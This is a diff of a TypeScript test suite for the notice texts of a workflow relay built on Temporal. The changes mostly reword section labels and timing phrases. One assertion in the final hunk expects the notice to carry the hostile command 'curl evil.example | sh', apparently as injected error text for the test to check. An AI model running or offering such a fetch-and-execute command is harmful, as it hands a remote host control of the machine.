@@ -88,7 +88,7 @@ const steer = (verb: string) => [
   `temporal workflow signal -n default -w relay:acme:c-1 --name ${verb} -i '[1]'`,
 ];
 const edit = 'npx relay chains mend acme c-1 1 --set field=value --url https://relay.example';
-const goesOn = [`Update a ticket field, due ${shownTime(received)}`, `Send an e-mail: “alert”, due ${shownTime(later)}`];
+const goesOn = [`Update a ticket field, at ${shownTime(received)}`, `Send an e-mail: “alert”, at ${shownTime(later)}`];
 const missing = {
   type: 'PlatformError',
   message: 'POST /assignments/1001/send answered 404',
@@ -106,15 +106,15 @@ describe('the text of a notice', () => {
         'The assignment platform gave an error or no answer.',
         'Retry: https://relay.example/hold/signed#retry',
         'Skip: https://relay.example/hold/signed#skip',
-        'The links open a page that asks you to confirm. That page needs no sign-in.',
+        'The links need no sign-in: they open a page where you confirm.',
         ids,
       ],
       'What happens next': [
         'The relay will retry the step automatically at 2024-03-05 16:18:00 UTC. You get a notice if the retry succeeds.',
         'If nobody decides before 2024-03-08 16:07:09 UTC, the step fails, and the steps that wait for it do not run.',
       ],
-      'Will run in any case': [`Send an e-mail: “alert”, due ${shownTime(later)}`],
-      'Waiting for this step': ['Update a ticket field'],
+      'Will run in any case': [`Send an e-mail: “alert”, at ${shownTime(later)}`],
+      'Steps that wait for this step': ['Update a ticket field'],
       Done: ['Send an e-mail: “greet”'],
       Details: ['POST /assignments/1001/send answered 503'],
     });
@@ -179,7 +179,7 @@ describe('the text of a notice', () => {
     );
     assert.deepEqual(sectionsOf('needs-attention', { error: missing }, actions, { forOperator: true }).get('For operators'), [
       ...[edit, ...steer('retry'), ...steer('skip')],
-      "In Temporal's Web UI, open “More Actions”, then “Send a Signal”. Choose the signal “retry” or “skip”. As the input, type [1], with the brackets.",
+      "In Temporal's Web UI, open “More Actions”, then “Send a Signal”. Choose the signal “retry” or “skip”. As the input, type [1], with the brackets, for step 2.",
       `The chain in the API (you need a token): ${chainUrl}`,
       `Temporal Web UI: ${webUiUrl}`,
     ]);
@@ -206,8 +206,8 @@ describe('the text of a notice', () => {
     const due = (action: ActionStatus): ActionStatus =>
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
-    assert.deepEqual(sections.get('Waiting for this step'), ['Send an e-mail: “alert”']);
-    assert.deepEqual(sections.get('Will run in any case'), [`Update a ticket field, due ${shownTime(received)}`]);
+    assert.deepEqual(sections.get('Steps that wait for this step'), ['Send an e-mail: “alert”']);
+    assert.deepEqual(sections.get('Will run in any case'), [`Update a ticket field, at ${shownTime(received)}`]);
   });
 
   it('lists other actions that are held, and does not promise that they will run', () => {
@@ -218,11 +218,11 @@ describe('the text of a notice', () => {
       { ...common, index: 6, action: 'sendEmails', comment: 'six', state: 'retrying', runAt: later },
     ];
     const sections = sectionsOf('needs-attention', {}, other);
-    assert.deepEqual(sections.get('Waiting for this step'), ['Update a ticket field']);
+    assert.deepEqual(sections.get('Steps that wait for this step'), ['Update a ticket field']);
     assert.deepEqual(sections.get('Also needs attention'), ['Send an e-mail: “four”', 'Send an e-mail: “five” (waits)']);
     assert.deepEqual(sections.get('Will run in any case'), [
-      `Send an e-mail: “alert”, due ${shownTime(later)}`,
-      `Send an e-mail: “six”, due ${shownTime(later)}`,
+      `Send an e-mail: “alert”, at ${shownTime(later)}`,
+      `Send an e-mail: “six”, at ${shownTime(later)}`,
     ]);
   });
 
@@ -263,8 +263,8 @@ describe('the text of a notice', () => {
     const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
     assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the step\./);
     assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
-    assert.deepEqual(sections.get('Will run in any case'), [`Send an e-mail: “alert”, due ${shownTime(later)}`]);
-    assert.equal(sections.has('Waiting for this step'), false);
+    assert.deepEqual(sections.get('Will run in any case'), [`Send an e-mail: “alert”, at ${shownTime(later)}`]);
+    assert.equal(sections.has('Steps that wait for this step'), false);
   });
 
   it('about an action that the relay completed after all, with the remark of the connector', () => {
@@ -287,7 +287,7 @@ describe('the text of a notice', () => {
     assert.equal(lines[0], 'No decision is needed any more');
     assert.equal(
       lines[4],
-      'The relay skipped the step instead of retrying it (the assignment had the status "sent"). The chain continues.',
+      'The relay skipped the step and did not retry it (the assignment had the status "sent"). The chain continues.',
     );
   });
 
@@ -297,7 +297,7 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this step', 'What happens next', 'Will run in any case'],
+      ...['', 'Details', 'Done', 'Recipients', 'Steps that wait for this step', 'What happens next', 'Will run in any case'],
     ]);
     assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
     assert.equal(sections.get('')?.length, 9);
